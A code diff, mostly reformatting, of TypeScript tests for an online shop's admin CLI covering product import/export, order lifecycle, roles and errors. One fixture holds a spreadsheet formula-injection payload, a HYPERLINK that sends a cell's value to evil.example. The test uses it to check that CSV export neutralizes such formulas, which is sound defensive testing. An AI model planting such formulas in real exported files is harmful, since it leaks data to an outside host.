@@ -23,7 +23,12 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
   const cli = async (...argv: string[]): Promise<Run> => {
     let stdout = '';
     let stderr = '';
-    const code = await runCli(argv, { env: shopEnv(), cwd: workDir, stdout: (text) => (stdout += text), stderr: (text) => (stderr += text) });
+    const code = await runCli(argv, {
+      env: shopEnv(),
+      cwd: workDir,
+      stdout: (text) => (stdout += text),
+      stderr: (text) => (stderr += text),
+    });
     return { code, stdout, stderr };
   };
   /** The storefront's list once it shows the change (its cache follows the catalog's version within a second). */
@@ -39,7 +44,9 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
   beforeAll(async () => {
     shop = await startTestShop(kind);
     workDir = mkdtempSync(path.join(os.tmpdir(), 'shop-cli-'));
-    await sharp({ create: { width: 480, height: 600, channels: 3, background: '#335577' } }).jpeg().toFile(path.join(workDir, 'navy.jpg'));
+    await sharp({ create: { width: 480, height: 600, channels: 3, background: '#335577' } })
+      .jpeg()
+      .toFile(path.join(workDir, 'navy.jpg'));
     writeFileSync(path.join(workDir, 'broken.png'), 'not a picture');
   });
   afterAll(async () => {
@@ -73,31 +80,69 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
     expect(run.stderr).toMatch(/^line 4: image: the file is not a picture/m);
 
     const products = await storefrontWhen((list) => list.some((product) => product._id === 'cli-navy-tee'));
-    const added = products.find((product) => product._id === 'cli-navy-tee') as unknown as { image: string[]; price: number };
+    const added = products.find((product) => product._id === 'cli-navy-tee') as unknown as {
+      image: string[];
+      price: number;
+    };
     expect(added.price).toBe(799);
     const picture = new URL(added.image[0] as string);
-    expect([picture.origin, picture.pathname]).toEqual([shop.config.publicUrl, expect.stringMatching(/^\/images\/products\/cli-navy-tee-1-[0-9a-f]{10}-960\.webp$/)]);
+    expect([picture.origin, picture.pathname]).toEqual([
+      shop.config.publicUrl,
+      expect.stringMatching(/^\/images\/products\/cli-navy-tee-1-[0-9a-f]{10}-960\.webp$/),
+    ]);
     const served = await shop.get(picture.pathname.replace('-960.webp', '-320.avif'));
     expect([served.status, served.headers['content-type']]).toEqual([200, 'image/avif']);
   });
 
   it('with --strict imports nothing unless every row is good', async () => {
-    writeFileSync(path.join(workDir, 'strict.json'), JSON.stringify([
-      { id: 'cli-strict-a', name: 'Strict A', description: 'Good', price: 100, category: 'Kids', subCategory: 'Topwear', sizes: ['4-5Y'], image: ['navy.jpg'] },
-      { id: 'cli-strict-b', name: 'Strict B', description: 'Bad', price: -1, category: 'Kids', subCategory: 'Topwear', sizes: ['4-5Y'], image: ['navy.jpg'] },
-    ]));
+    writeFileSync(
+      path.join(workDir, 'strict.json'),
+      JSON.stringify([
+        {
+          id: 'cli-strict-a',
+          name: 'Strict A',
+          description: 'Good',
+          price: 100,
+          category: 'Kids',
+          subCategory: 'Topwear',
+          sizes: ['4-5Y'],
+          image: ['navy.jpg'],
+        },
+        {
+          id: 'cli-strict-b',
+          name: 'Strict B',
+          description: 'Bad',
+          price: -1,
+          category: 'Kids',
+          subCategory: 'Topwear',
+          sizes: ['4-5Y'],
+          image: ['navy.jpg'],
+        },
+      ]),
+    );
     const run = await cli('products', 'import', 'strict.json', '--strict');
     expect(run.code).toBe(1);
     expect(run.stderr).toContain('item 2: price must');
     expect(run.stderr).toContain('Nothing was imported');
-    expect(await shop.app.db.selectFrom('products').select('id').where('id', 'like', 'cli-strict-%').execute()).toEqual([]);
+    expect(await shop.app.db.selectFrom('products').select('id').where('id', 'like', 'cli-strict-%').execute()).toEqual(
+      [],
+    );
   });
 
   it('refuses a file it cannot read as products, naming the problem', async () => {
     writeFileSync(path.join(workDir, 'typo.csv'), 'id,name,prize\nx,y,1\n');
-    expect(await cli('products', 'import', 'typo.csv')).toMatchObject({ code: 1, stderr: expect.stringContaining('unknown column prize') });
-    expect(await cli('products', 'import', 'missing.csv')).toMatchObject({ code: 1, stderr: expect.stringContaining('cannot read it (ENOENT)') });
-    expect(await cli('products', 'import', 'products.txt')).toMatchObject({ code: 1, stderr: expect.stringContaining('.csv or .json') });
+    expect(await cli('products', 'import', 'typo.csv')).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('unknown column prize'),
+    });
+    expect(await cli('products', 'import', 'missing.csv')).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('cannot read it (ENOENT)'),
+    });
+    expect(await cli('products', 'import', 'products.txt')).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('.csv or .json'),
+    });
   });
 
   it('exports CSV and JSON that import back unchanged', async () => {
@@ -114,35 +159,94 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
 
   it('exports cells a spreadsheet would run as formulas with a leading apostrophe, and imports them back as they were', async () => {
     const risky = [
-      { id: 'cli-formula-a', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click for a discount")', description: '+1 555 0100' },
-      { id: 'cli-formula-b', name: "@SUM(A1:A9)", description: "-5% today, 'quoted' and fine" },
+      {
+        id: 'cli-formula-a',
+        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click for a discount")',
+        description: '+1 555 0100',
+      },
+      { id: 'cli-formula-b', name: '@SUM(A1:A9)', description: "-5% today, 'quoted' and fine" },
       { id: 'cli-formula-c', name: "'=already quoted", description: 'A plain description' },
     ];
-    const rows = risky.map((product) => ({ ...product, price: 100, category: 'Men', subCategory: 'Topwear', sizes: ['M'], image: ['/images/hero.svg'] }));
+    const rows = risky.map((product) => ({
+      ...product,
+      price: 100,
+      category: 'Men',
+      subCategory: 'Topwear',
+      sizes: ['M'],
+      image: ['/images/hero.svg'],
+    }));
     writeFileSync(path.join(workDir, 'risky.json'), JSON.stringify(rows));
     expect((await cli('products', 'import', 'risky.json')).code).toBe(0);
     const csv = await cli('products', 'export', '--out', 'risky.csv');
     expect(csv.code).toBe(0);
     const text = readFileSync(path.join(workDir, 'risky.csv'), 'utf8');
-    expect(text).toContain('cli-formula-a,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for a discount"")",\'+1 555 0100,');
+    expect(text).toContain(
+      'cli-formula-a,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for a discount"")",\'+1 555 0100,',
+    );
     expect(text).toContain("cli-formula-b,'@SUM(A1:A9),\"'-5% today, 'quoted' and fine\",");
     expect(text).toContain("cli-formula-c,''=already quoted,A plain description,");
 
     await shop.app.db.deleteFrom('products').where('id', 'like', 'cli-formula-%').execute();
     expect((await cli('products', 'import', 'risky.csv')).code).toBe(0);
-    const back = await shop.app.db.selectFrom('products').select(['id', 'name', 'description']).where('id', 'like', 'cli-formula-%').orderBy('id').execute();
+    const back = await shop.app.db
+      .selectFrom('products')
+      .select(['id', 'name', 'description'])
+      .where('id', 'like', 'cli-formula-%')
+      .orderBy('id')
+      .execute();
     expect(back).toEqual(risky);
   });
 
   it('adds a product from the command line and removes it again', async () => {
-    const add = await cli('products', 'add', '--id', 'cli-added', '--name', 'Kids Navy Hoodie', '--description', 'Warm.', '--price', '1299.50', '--category', 'Kids', '--type', 'Winterwear', '--sizes', '4-5Y', '6-7Y', '--image', 'navy.jpg', '--bestseller');
+    const add = await cli(
+      'products',
+      'add',
+      '--id',
+      'cli-added',
+      '--name',
+      'Kids Navy Hoodie',
+      '--description',
+      'Warm.',
+      '--price',
+      '1299.50',
+      '--category',
+      'Kids',
+      '--type',
+      'Winterwear',
+      '--sizes',
+      '4-5Y',
+      '6-7Y',
+      '--image',
+      'navy.jpg',
+      '--bestseller',
+    );
     expect(add).toMatchObject({ code: 0, stdout: 'Added cli-added.\n' });
     await storefrontWhen((list) => list[0]?._id === 'cli-added');
-    const refused = await cli('products', 'add', '--name', 'No Sizes', '--description', 'x', '--price', '1', '--category', 'Kids', '--type', 'Hats', '--sizes', 'M', '--image', 'navy.jpg');
+    const refused = await cli(
+      'products',
+      'add',
+      '--name',
+      'No Sizes',
+      '--description',
+      'x',
+      '--price',
+      '1',
+      '--category',
+      'Kids',
+      '--type',
+      'Hats',
+      '--sizes',
+      'M',
+      '--image',
+      'navy.jpg',
+    );
     expect(refused).toMatchObject({ code: 1, stderr: expect.stringContaining('subCategory must be one of') });
     expect(await cli('products', 'remove', 'cli-added')).toMatchObject({ code: 0, stdout: 'Removed cli-added.\n' });
     await storefrontWhen((list) => !list.some((product) => product._id === 'cli-added'));
-    expect(await cli('products', 'remove', 'cli-added')).toMatchObject({ code: 1, stderr: 'There is no product cli-added.\n' });
+    expect(await cli('products', 'remove', 'cli-added')).toMatchObject({
+      code: 1,
+      stderr: 'There is no product cli-added.\n',
+    });
   });
 
   it('lists, shows and moves orders along the lifecycle, refusing impossible moves', async () => {
@@ -153,21 +257,37 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
     await fillCart(shop, shopper.token, [{ itemId: product._id, size: product.sizes[0] as string, quantity: 3 }]);
     await shop.post('/api/order/place', await orderBodyFor(shop, shopper.token), shopper.token);
     const listed = await cli('orders', 'list', '--status', 'Order Placed', '--json');
-    const orderId = (JSON.parse(listed.stdout) as Array<{ _id: string; email: string }>).find((order) => order.email === shopper.email)?._id as string;
+    const orderId = (JSON.parse(listed.stdout) as Array<{ _id: string; email: string }>).find(
+      (order) => order.email === shopper.email,
+    )?._id as string;
     expect(orderId).toBeDefined();
     const tableRun = await cli('orders', 'list', '--since', '2020-01-01');
-    expect(tableRun.stdout.split('\n')[0]).toMatch(/^ORDER\s+PLACED \(UTC\)\s+CUSTOMER\s+AMOUNT\s+PAYMENT\s+PIECES\s+STATUS$/);
+    expect(tableRun.stdout.split('\n')[0]).toMatch(
+      /^ORDER\s+PLACED \(UTC\)\s+CUSTOMER\s+AMOUNT\s+PAYMENT\s+PIECES\s+STATUS$/,
+    );
     expect(tableRun.stdout).toMatch(new RegExp(`^${orderId} .*${shopper.email}.*COD\\s+3\\s+Order Placed$`, 'm'));
 
-    expect(await cli('orders', 'status', orderId, 'Packing', '--by', 'Meera')).toMatchObject({ code: 0, stdout: `Order ${orderId} is now Packing.\n` });
+    expect(await cli('orders', 'status', orderId, 'Packing', '--by', 'Meera')).toMatchObject({
+      code: 0,
+      stdout: `Order ${orderId} is now Packing.\n`,
+    });
     const skip = await cli('orders', 'status', orderId, 'Delivered');
-    expect(skip).toMatchObject({ code: 1, stderr: `Order ${orderId} cannot go from Packing to Delivered. From Packing it can become Shipped or Cancelled.\n` });
+    expect(skip).toMatchObject({
+      code: 1,
+      stderr: `Order ${orderId} cannot go from Packing to Delivered. From Packing it can become Shipped or Cancelled.\n`,
+    });
     const shown = await cli('orders', 'show', orderId);
     expect(shown.stdout).toContain('Status    Packing');
     expect(shown.stdout).toMatch(/Order Placed\s+Packing\s+Meera/);
     expect((await shop.post('/api/order/userorder', undefined, shopper.token)).body.orders[0].status).toBe('Packing');
-    expect(await cli('orders', 'show', 'no-such-order')).toMatchObject({ code: 1, stderr: 'There is no order no-such-order.\n' });
-    expect(await cli('orders', 'list', '--since', 'last week')).toMatchObject({ code: 1, stderr: expect.stringContaining('2026-11-01') });
+    expect(await cli('orders', 'show', 'no-such-order')).toMatchObject({
+      code: 1,
+      stderr: 'There is no order no-such-order.\n',
+    });
+    expect(await cli('orders', 'list', '--since', 'last week')).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('2026-11-01'),
+    });
   });
 
   it('takes statuses in any case, and names every status when one is unknown', async () => {
@@ -180,16 +300,31 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
     expect(placed.status).toBe(201);
     const listed = await cli('orders', 'list', '--status', 'order placed', '--json');
     expect(listed.code).toBe(0);
-    const orderId = (JSON.parse(listed.stdout) as Array<{ _id: string; email: string }>).find((order) => order.email === shopper.email)?._id as string;
+    const orderId = (JSON.parse(listed.stdout) as Array<{ _id: string; email: string }>).find(
+      (order) => order.email === shopper.email,
+    )?._id as string;
     expect(orderId).toBeDefined();
-    expect(await cli('orders', 'status', orderId, 'packing')).toMatchObject({ code: 0, stdout: `Order ${orderId} is now Packing.\n` });
-    expect(await cli('orders', 'status', orderId, 'SHIPPED')).toMatchObject({ code: 0, stdout: `Order ${orderId} is now Shipped.\n` });
-    expect(await cli('orders', 'status', orderId, 'out-for-delivery')).toMatchObject({ code: 0, stdout: `Order ${orderId} is now Out for delivery.\n` });
+    expect(await cli('orders', 'status', orderId, 'packing')).toMatchObject({
+      code: 0,
+      stdout: `Order ${orderId} is now Packing.\n`,
+    });
+    expect(await cli('orders', 'status', orderId, 'SHIPPED')).toMatchObject({
+      code: 0,
+      stdout: `Order ${orderId} is now Shipped.\n`,
+    });
+    expect(await cli('orders', 'status', orderId, 'out-for-delivery')).toMatchObject({
+      code: 0,
+      stdout: `Order ${orderId} is now Out for delivery.\n`,
+    });
 
     const unknown = await cli('orders', 'list', '--status', 'Nonsense');
     expect(unknown.code).toBe(1);
-    expect(unknown.stderr).toContain('"Nonsense" is not an order status here. The statuses are: Order Placed, Packing, Shipped, Out for delivery, Delivered, Cancelled, Awaiting Payment');
-    expect((await cli('orders', 'status', orderId, 'Lost')).stderr).toContain('The statuses are: Order Placed, Packing, Shipped');
+    expect(unknown.stderr).toContain(
+      '"Nonsense" is not an order status here. The statuses are: Order Placed, Packing, Shipped, Out for delivery, Delivered, Cancelled, Awaiting Payment',
+    );
+    expect((await cli('orders', 'status', orderId, 'Lost')).stderr).toContain(
+      'The statuses are: Order Placed, Packing, Shipped',
+    );
   });
 
   it('answers an unknown command or option with exit 2 and the help that lists what exists', async () => {
@@ -205,43 +340,79 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
 
   it('gives an account the admin role, which opens the admin API to it', async () => {
     const operator = await shop.newShopper('Meera');
-    const adminCall = () => shop.request({ method: 'GET', url: '/api/admin/users', headers: { token: operator.token } });
+    const adminCall = () =>
+      shop.request({ method: 'GET', url: '/api/admin/users', headers: { token: operator.token } });
     expect((await adminCall()).status).toBe(403);
-    expect(await cli('users', 'role', operator.email.toUpperCase(), 'admin')).toMatchObject({ code: 0, stdout: `${operator.email.toUpperCase()} is now an admin.\n` });
+    expect(await cli('users', 'role', operator.email.toUpperCase(), 'admin')).toMatchObject({
+      code: 0,
+      stdout: `${operator.email.toUpperCase()} is now an admin.\n`,
+    });
     expect((await adminCall()).status).toBe(200);
     const users = JSON.parse((await cli('users', 'list', '--json')).stdout) as Array<{ email: string; role: string }>;
     expect(users.find((user) => user.email === operator.email)?.role).toBe('admin');
-    expect(await cli('users', 'role', 'nobody@example.com', 'admin')).toMatchObject({ code: 1, stderr: expect.stringContaining('There is no account') });
-    expect(await cli('users', 'role', operator.email, 'owner')).toMatchObject({ code: 1, stderr: expect.stringContaining('shopper or admin') });
+    expect(await cli('users', 'role', 'nobody@example.com', 'admin')).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('There is no account'),
+    });
+    expect(await cli('users', 'role', operator.email, 'owner')).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('shopper or admin'),
+    });
   });
 
   it('says so when the database is unreachable (exit 1)', async () => {
     let stderr = '';
-    const code = await runCli(['users', 'list'], { env: { DATABASE_URL: 'postgres://postgres@127.0.0.1:1/shop' }, cwd: workDir, stdout: () => undefined, stderr: (text) => (stderr += text) });
+    const code = await runCli(['users', 'list'], {
+      env: { DATABASE_URL: 'postgres://postgres@127.0.0.1:1/shop' },
+      cwd: workDir,
+      stdout: () => undefined,
+      stderr: (text) => (stderr += text),
+    });
     expect(code).toBe(1);
     expect(stderr).toMatch(/^The database is unreachable .*Check DATABASE_URL/);
   });
 });
 
 describe('CSV cells a spreadsheet would run', () => {
-  it.each(['=1+1', '+44 20', '-5%', '@SUM(A1)', '\t=1', '\r=1', "'=quoted", "''+twice", 'plain', "'plain", ''])('are written inert and read back as they were: %j', (cell) => {
-    const written = neutralizeFormula(cell);
-    expect(/^[=+\-@\t\r]/.test(written)).toBe(false);
-    expect(restoreFormula(written)).toBe(cell);
-  });
+  it.each(['=1+1', '+44 20', '-5%', '@SUM(A1)', '\t=1', '\r=1', "'=quoted", "''+twice", 'plain', "'plain", ''])(
+    'are written inert and read back as they were: %j',
+    (cell) => {
+      const written = neutralizeFormula(cell);
+      expect(/^[=+\-@\t\r]/.test(written)).toBe(false);
+      expect(restoreFormula(written)).toBe(cell);
+    },
+  );
 });
 
 describe('npm run shop as its own process', () => {
   // As an operator runs it from a folder of their own: npm runs the script in the project, files are read from `cwd`.
-  const run = (args: string[], env: Record<string, string>, cwd: string) => runShopCli(args, { cwd, env: { ...process.env, ...env } });
+  const run = (args: string[], env: Record<string, string>, cwd: string) =>
+    runShopCli(args, { cwd, env: { ...process.env, ...env } });
 
   it("works on the shop's database, reads files from the operator's folder, and refuses a database that is not there", async () => {
     const shop = await startTestShop('sqlite');
     const folder = mkdtempSync(path.join(os.tmpdir(), 'shop-cli-operator-'));
     try {
-      writeFileSync(path.join(folder, 'one.json'), JSON.stringify([{ id: 'process-tee', name: 'Tee', description: 'A tee.', price: 1, category: 'Men', subCategory: 'Topwear', sizes: ['M'], image: ['/images/hero.svg'] }]));
+      writeFileSync(
+        path.join(folder, 'one.json'),
+        JSON.stringify([
+          {
+            id: 'process-tee',
+            name: 'Tee',
+            description: 'A tee.',
+            price: 1,
+            category: 'Men',
+            subCategory: 'Topwear',
+            sizes: ['M'],
+            image: ['/images/hero.svg'],
+          },
+        ]),
+      );
       const env = { DATABASE_URL: shop.config.databaseUrl, DATA_DIR: shop.config.dataDir };
-      expect(await run(['products', 'import', 'one.json'], env, folder)).toMatchObject({ code: 0, stdout: '1 added, 0 updated.\n' });
+      expect(await run(['products', 'import', 'one.json'], env, folder)).toMatchObject({
+        code: 0,
+        stdout: '1 added, 0 updated.\n',
+      });
       expect((await catalog(shop)).map((product) => product._id)).toContain('process-tee');
       const missing = await run(['users', 'list'], { DATA_DIR: path.join(folder, 'no-shop-here') }, folder);
       expect(missing).toMatchObject({ code: 1, stderr: expect.stringContaining('There is no shop database at') });
